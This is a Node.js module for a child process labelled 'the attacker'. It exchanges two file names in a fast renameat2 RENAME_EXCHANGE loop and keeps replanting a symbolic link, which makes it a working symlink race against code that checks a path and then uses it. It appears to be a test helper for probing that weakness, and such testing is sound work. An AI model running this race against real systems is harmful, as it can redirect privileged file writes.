// The attacker: a process of its own that exchanges two names as fast as the kernel lets it (renameat2(2) with
// RENAME_EXCHANGE: at every instant each name is there, and means the one thing or the other).
// It is told over IPC: { attack: { directory, target, decoy, decoyPointsTo } } and { stop: true }.
import { lstatSync, symlinkSync, unlinkSync } from 'node:fs';
import { setImmediate } from 'node:timers';
import koffi from 'koffi';

const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
/**
 * So short that a message is answered, and a decoy that a victim replaced is planted again, at once. Odd, so that the link
 * is in place during every other pause.
 */
const SWAPS_PER_TURN = 33;
const HEARTBEAT_MS = 25;

const renameat2 = koffi
  .load(null)
  .func('int renameat2(int od, const char *op, int nd, const char *np, unsigned int flags)');

let attack;
let swaps = 0;
let lastHeartbeat = 0;

function swap() {
  if (renameat2(AT_FDCWD, attack.target, AT_FDCWD, attack.decoy, RENAME_EXCHANGE) !== 0) {
    throw new Error(`renameat2 failed with errno ${koffi.errno()}: does this file system know RENAME_EXCHANGE?`);
  }
  swaps += 1;
}

/** A victim that renames its file over the link takes the link away, and both names are files from then on. */
function plantAgain() {
  if ([attack.target, attack.decoy].some((name) => lstatSync(name).isSymbolicLink())) return;
  unlinkSync(attack.decoy);
  symlinkSync(attack.decoyPointsTo, attack.decoy);
}

function turn() {
  if (attack === undefined) return;
  for (let count = 0; count < SWAPS_PER_TURN; count += 1) swap();
  plantAgain();
  const now = Date.now();
  if (now - lastHeartbeat >= HEARTBEAT_MS) {
    lastHeartbeat = now;
    process.send({ swaps });
  }
  setImmediate(turn);
}

process.on('message', (message) => {
  if (message.attack !== undefined) {
    attack = message.attack;
    swaps = 0;
    lastHeartbeat = 0;
    process.chdir(attack.directory);
    turn();
  } else {
    // After an even number of swaps everything is where it was at the start.
    if (swaps % 2 === 1) swap();
    attack = undefined;
    process.send({ swaps, stopped: true });
  }
});
process.on('disconnect', () => process.exit());
